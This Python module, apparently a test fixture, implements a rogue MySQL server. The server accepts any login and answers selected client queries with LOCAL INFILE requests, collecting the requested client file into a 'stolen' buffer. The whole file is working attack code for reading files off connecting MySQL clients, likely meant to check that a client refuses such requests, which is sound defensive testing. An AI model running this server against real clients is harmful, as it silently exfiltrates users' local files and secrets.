"""A MySQL server that accepts every login and answers statements by requesting a client's file."""

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from pathlib import Path

_PROTOCOL_10, _LATIN1, _AUTOCOMMIT = 10, 8, 2
# LONG_PASSWORD, CONNECT_WITH_DB, LOCAL_FILES, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION and
# PLUGIN_AUTH; without SSL.
_CAPABILITIES = 0x1 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000
_OK = bytes((0, 0, 0, _AUTOCOMMIT, 0, 0, 0))
_FILE_REQUEST = b"\xfb"
_QUERY = 3


class RogueServer:
    """Requests `wanted` in answer to each statement that `is_target` selects; others succeed.

    `statements` are the statements that it received, `stolen` what clients sent of files.
    """

    def __init__(self, wanted: Path, is_target: Callable[[str], bool], host: str) -> None:
        self.wanted = wanted
        self.statements: list[str] = []
        self.stolen = b""
        self._is_target = is_target
        self._listener = socket.create_server((host, 0))
        self.host, self.port = self._listener.getsockname()[:2]
        self._threads = [threading.Thread(target=self._accept, daemon=True)]
        self._threads[0].start()

    def url(self, query: str = "") -> str:
        return f"mysql+pymysql://crypto:word@{self.host}:{self.port}/crypto{query}"

    def stop(self) -> None:
        with suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        for thread in self._threads:
            thread.join(10)

    def _accept(self) -> None:
        with suppress(OSError):  # the listener was closed
            while True:
                client, _ = self._listener.accept()
                thread = threading.Thread(target=self._serve, args=(client,), daemon=True)
                self._threads.append(thread)
                thread.start()

    def _serve(self, client: socket.socket) -> None:
        with closing(client), suppress(OSError, EOFError), client.makefile("rwb") as stream:
            wire = _Wire(stream)
            wire.send(0, _greet())
            number, _ = wire.receive()
            wire.send(number + 1, _OK)
            while True:
                number, command = wire.receive()
                if command[0] != _QUERY:
                    wire.send(number + 1, _OK)
                    continue
                statement = command[1:].decode(errors="replace")
                self.statements.append(statement)
                if self._is_target(statement):
                    wire.send(number + 1, _FILE_REQUEST + str(self.wanted).encode())
                    number, content = wire.receive()
                    while content:
                        self.stolen += content
                        number, content = wire.receive()
                wire.send(number + 1, _OK)


class _Wire:
    """Packets: three bytes of length, one of the sequence number, and the content."""

    def __init__(self, stream: "socket.SocketIO") -> None:
        self._stream = stream

    def send(self, number: int, content: bytes) -> None:
        self._stream.write(len(content).to_bytes(3, "little") + bytes((number % 256,)) + content)
        self._stream.flush()

    def receive(self) -> tuple[int, bytes]:
        header = self._stream.read(4)
        if len(header) < 4:
            raise EOFError
        content = self._stream.read(int.from_bytes(header[:3], "little"))
        return header[3], content


def _greet() -> bytes:
    salt = b"01234567890123456789"
    return b"".join(
        (
            bytes((_PROTOCOL_10,)),
            b"8.4.0-rogue\0",
            (1).to_bytes(4, "little"),
            salt[:8] + b"\0",
            (_CAPABILITIES & 0xFFFF).to_bytes(2, "little"),
            bytes((_LATIN1,)),
            _AUTOCOMMIT.to_bytes(2, "little"),
            (_CAPABILITIES >> 16).to_bytes(2, "little"),
            bytes((len(salt) + 1,)),
            bytes(10),
            salt[8:] + b"\0",
            b"mysql_native_password\0",
        )
    )


def _is_read_as_result(statement: str) -> bool:
    """Return whether PyMySQL can take the answer for a file request; here it wants an OK."""
    return not statement.startswith(("SET NAMES", "SET AUTOCOMMIT"))


@contextmanager
def run_rogue_server(
    wanted: Path,
    is_target: Callable[[str], bool] = _is_read_as_result,
    host: str = "127.0.0.1",
) -> Iterator[RogueServer]:
    server = RogueServer(wanted, is_target, host)
    try:
        yield server
    finally:
        server.stop()
